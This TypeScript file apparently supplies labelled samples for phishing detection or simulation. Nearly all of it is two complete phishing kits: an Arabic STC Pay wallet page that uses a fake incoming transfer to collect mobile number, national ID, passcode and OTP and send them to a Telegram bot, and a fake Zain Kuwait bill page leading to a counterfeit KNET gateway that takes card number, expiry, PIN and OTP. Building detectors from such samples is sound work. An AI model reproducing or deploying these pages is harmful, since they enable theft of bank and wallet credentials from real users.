import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, cardCss, cardFields, cardMaskJs, otpBoxes, otpJs, countdownJs, stepFlow, sendFetchForm, sendJson, sendXhr, sendTelegram, json, js, b64 } from '../parts/yl-kit.js';

const knetBanks = ['Al Ahli Bank of Kuwait (ABK)', 'Boubyan Bank', 'Burgan Bank', 'Commercial Bank of Kuwait (CBK)', 'Gulf Bank', 'Kuwait Finance House (KFH)', 'Kuwait International Bank (KIB)', 'National Bank of Kuwait (NBK)', 'Warba Bank', 'Al Rajhi Bank'];

export const entries: Entry[] = [
{
  id: 'yl-stcpay-wallet-passcode',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://stcpay-wallet-sa.com/login',
  body: doc({
    title: 'STC Pay | تسجيل الدخول',
    lang: 'ar',
    css: cardCss({ bg: '#4f008c', primary: '#4f008c', radius: 18 }) + `.card{margin-top:30px}.pc{display:flex;gap:10px;justify-content:center;margin:10px 0 18px;direction:ltr}.pc input{width:40px;height:48px;text-align:center;font-size:24px;border:0;border-bottom:2px solid #4f008c}`,
    body: `<div class="wrap"><div class="logo">${wordmark('stc pay', '#fff', { size: 34 })}</div><div class="card">
<div class="step on"><h1>أهلاً بك</h1><p class="sub">سجّل دخولك إلى محفظة STC Pay لاستلام الحوالة الواردة إليك (1,850 ر.س).</p>
<form><div class="f"><label>رقم الجوال</label><input name="mobile" dir="ltr" placeholder="05X XXX XXXX" inputmode="tel" required></div><div class="f"><label>رقم الهوية / الإقامة</label><input name="id" inputmode="numeric" maxlength="10" required></div><button class="btn">متابعة</button></form></div>
<div class="step"><h1>رمز الدخول</h1><p class="sub">أدخل رمز الدخول المكوّن من 4 أرقام</p><form><div class="pc"><input name="p1" type="password" maxlength="1" required><input name="p2" type="password" maxlength="1" required><input name="p3" type="password" maxlength="1" required><input name="p4" type="password" maxlength="1" required></div><button class="btn">دخول</button></form></div>
<div class="step"><h1>التحقق</h1><p class="sub">تم إرسال رمز التحقق إلى جوالك. الرمز صالح لمدة <span id="cd">0:59</span></p><form>${otpBoxes(4)}<button class="btn">تحقق</button></form></div>
<div class="step"><div class="spin"></div><p class="sub" style="text-align:center">جاري إضافة الحوالة إلى محفظتك...</p><form></form></div>
</div></div>
<script>${otpJs}${countdownJs('#cd')}
[].forEach.call(document.querySelectorAll('.pc input'),function(i,n,a){i.addEventListener('input',function(){if(i.value&&a[n+1])a[n+1].focus()})});</script>
${stepFlow({ send: sendTelegram('6690217733:AAEq5uWm1Lx0bJ7pTnZcR4vK8hGfDs2yQaA', '5523018841', 'stcpay'), finalUrl: 'https://stcpay.com.sa/', delayMs: 8000 })}`,
  }),
},
{
  id: 'yl-zain-kw-bill-knet-gateway',
  label: 'phishing',
  kind: 'payment-gateway-kit',
  url: 'https://zain-kw-paybill.com/pay/',
  routes: {
    'zain-kw-paybill.com/pay/': htmlRoute(doc({
      title: 'Zain Kuwait | Quick Pay',
      css: cardCss({ bg: '#f4f4f6', primary: '#00a19a', radius: 8 }) + `.hd{background:#fff;padding:14px 26px;border-bottom:1px solid #eee}.amt{font-size:28px;font-weight:700;color:#00a19a}`,
      body: `<div class="hd">${wordmark('zain', '#00a19a', { size: 30 })}</div><div class="wrap"><div class="card">
<h1>Quick Pay</h1><p class="sub">Pay your Zain bill or recharge your line. Your line will be suspended if the outstanding amount is not settled today.</p>
<form id="q" action="/pay/knet.php" method="get"><div class="f"><label>Mobile number</label><input name="msisdn" placeholder="9XXXXXXX" inputmode="tel" maxlength="8" required></div>
<div class="f"><label>Outstanding amount</label><div class="amt">KWD 7.250</div><input type="hidden" name="amt" value="7.250"></div><button class="btn">Pay with KNET</button></form></div>
<footer>© 2025 Zain Kuwait</footer></div>`,
    })),
    'zain-kw-paybill.com/pay/knet.php': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>KNET Payment Gateway</title>
<style>body{background:#f0f0f0;font-family:Arial,Helvetica,sans-serif;margin:0}.g{max-width:440px;margin:0 auto;background:#fff;min-height:100vh}.h{background:#fff;border-bottom:3px solid #0078c1;padding:12px;text-align:center}
.mi{background:#eef5fb;padding:12px 16px;font-size:13px}.mi div{display:flex;justify-content:space-between;padding:3px 0}.fm{padding:16px}.fm label{font-size:13px;color:#333;display:block;margin:12px 0 4px}
select,input{height:38px;border:1px solid #bbb;padding:0 8px;font-size:15px;width:100%;box-sizing:border-box}.cn{display:flex;gap:6px}.cn select{width:110px}.ex{display:flex;gap:6px}
.bt{display:flex;gap:8px;margin-top:20px}.bt button{flex:1;height:42px;border:0;font-size:15px;color:#fff}.ok{background:#0078c1}.no{background:#888}.ft{font-size:11px;color:#777;text-align:center;padding:14px}</style></head>
<body><div class="g"><div class="h">${wordmark('KNET', '#0078c1', { size: 28 })}</div>
<div class="mi"><div><span>Merchant:</span><b>Zain Kuwait</b></div><div><span>Website:</span><span>www.kw.zain.com</span></div><div><span>Amount:</span><b>KD 7.250</b></div></div>
<form class="fm" id="kf"><label>Select Your Bank:</label><select name="bank" required><option value="">Select Your Bank</option>${knetBanks.map((b) => `<option>${b}</option>`).join('')}</select>
<label>Card Number:</label><div class="cn"><select name="prefix"><option>Prefix</option><option>537016</option><option>450605</option><option>588848</option><option>526412</option><option>558874</option></select><input name="card" inputmode="numeric" maxlength="10" required></div>
<label>Expiration Date:</label><div class="ex"><select name="mm"><option>MM</option>${Array.from({ length: 12 }, (_, i) => `<option>${String(i + 1).padStart(2, '0')}</option>`).join('')}</select><select name="yy"><option>YYYY</option>${Array.from({ length: 10 }, (_, i) => `<option>${2025 + i}</option>`).join('')}</select></div>
<label>PIN:</label><input name="pin" type="password" inputmode="numeric" maxlength="4" required>
<div class="bt"><button class="ok">Submit</button><button type="button" class="no">Cancel</button></div></form>
<div class="ft">All Rights Reserved. Copyright 2025 © The Shared Electronic Banking Services Company - KNET</div></div>
<script>document.getElementById('kf').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('msisdn',new URLSearchParams(location.search).get('msisdn')||'');
fetch('/pay/api/knet',{method:'POST',body:f}).then(function(){location.href='/pay/otp.php'})};</script></body></html>`),
    'zain-kw-paybill.com/pay/api/knet': json({ res: 'ok' }),
    'zain-kw-paybill.com/pay/otp.php': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>KNET</title><style>body{font-family:Arial;background:#f0f0f0}.g{max-width:440px;margin:0 auto;background:#fff;padding:20px;min-height:100vh}input{width:100%;height:40px;font-size:18px}button{width:100%;height:42px;margin-top:12px;background:#0078c1;color:#fff;border:0}</style></head><body><div class="g"><h3>Verification code</h3><p style="font-size:13px">Please enter the OTP sent to your mobile by your bank.</p><form onsubmit="event.preventDefault();fetch('/pay/api/knet',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://www.kw.zain.com/en/'})"><input name="otp" maxlength="6"><button>Confirm</button></form></div></body></html>`),
  },
},
];
